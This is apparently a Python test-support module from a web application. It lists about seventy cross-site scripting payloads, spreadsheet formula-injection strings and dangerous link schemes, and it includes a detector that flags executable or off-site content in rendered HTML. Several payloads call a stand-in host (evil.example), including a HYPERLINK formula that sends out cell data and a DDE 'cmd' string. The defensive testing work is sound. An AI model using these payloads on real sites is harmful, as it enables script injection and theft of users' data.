"""What attackers write into titles, descriptions and names: sixty ways to run a script in a reader's browser (F60)."""

from __future__ import annotations

import re
from collections.abc import Iterator

from selectolax.lexbor import LexborHTMLParser, LexborNode

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=`alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1) type=image>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=https://x.example onclick=alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "![x](https://evil.example/x.png)",
    '![x](x"onerror="alert(1))',
    '<https://x.example/"onclick="alert(1)>',
    "[x]: javascript:alert(1)\n[x]",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028alert(1)\u2029<script>",
    "\x1b[31m<script>alert(1)</script>",
)
# What a spreadsheet would take for a formula (F61); numbers with a sign are none.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"Hier")',
    "=cmd|' /C calc'!A0",
    "+49 661 1234",
    "-x",
    "＝1+1",
)
NUMBERS = ("-5", "+5", "-1.234,5", "-0.5", "-5 %", "1")
# Addresses that no link may lead to.
ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//https://x.example",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x.example/1",
    "urn:x:y",
)
_HARMLESS = ("http://", "https://", "mailto:", "tel:", "/", "#")
_RUNNING = {"script", "iframe", "object", "embed", "base", "svg", "math", "template", "frame", "applet", "marquee"}


_DRAWINGS = {"chart", "curve", "map-drawing"}
_SHAPES = {
    "svg",
    "g",
    "title",
    "desc",
    "path",
    "line",
    "polyline",
    "polygon",
    "rect",
    "circle",
    "text",
    "tspan",
    "defs",
    "clippath",
}
_PICTURE = re.compile(r"(/[\w.-]+)+/(qr\.svg|picture)(\?v=[\w-]+)?")  # one of ours, at an address of ours
_OURS = re.compile(r"/assets/[\w./-]+\.js\?v=[0-9a-f]{12}")  # a script of ours: a file, its version, no text inside


def dangers(page: str) -> Iterator[str]:
    """Everything in a page that could run, load or lead somewhere else than meant; takes HTML as browsers read it."""
    for node in LexborHTMLParser(page).css("*"):
        attributes = {name: value or "" for name, value in node.attributes.items()}
        data = (node.tag, attributes.get("type")) == ("script", "application/ld+json")
        ours = node.tag == "script" and _OURS.fullmatch(attributes.get("src", "")) and not node.text().strip()
        if node.tag in _RUNNING and not data and not ours and not _is_our_drawing(node):
            yield f"<{node.tag}>"
        for name, value in attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "xlink:href", "srcset", "ping"):
                yield f"{node.tag} {name}={value}"
            if name == "href" and (not value.startswith(_HARMLESS) or value.startswith("//")):
                yield f"{node.tag} href={value}"
            stylesheet = node.tag == "link" and attributes.get("rel") == "stylesheet" and name == "href"
            picture = node.tag == "img" and name == "src" and _PICTURE.fullmatch(value)
            if (name == "src" or stylesheet) and not value.startswith("/assets/") and not picture:
                yield f"{node.tag} {name}={value}"
            if name == "action" and (not value.startswith("/") or value.startswith("//")):
                yield f"{node.tag} action={value}"
        if node.tag == "meta" and "http-equiv" in attributes:
            yield "meta http-equiv"


def _is_our_drawing(node: LexborNode) -> bool:
    """A drawing of ours: of shapes and words alone; what could run in it is seen at each node."""
    kind = (node.attributes.get("class") or "").partition(" ")[0]
    return node.tag == "svg" and kind in _DRAWINGS and {child.tag for child in node.css("*")} <= _SHAPES
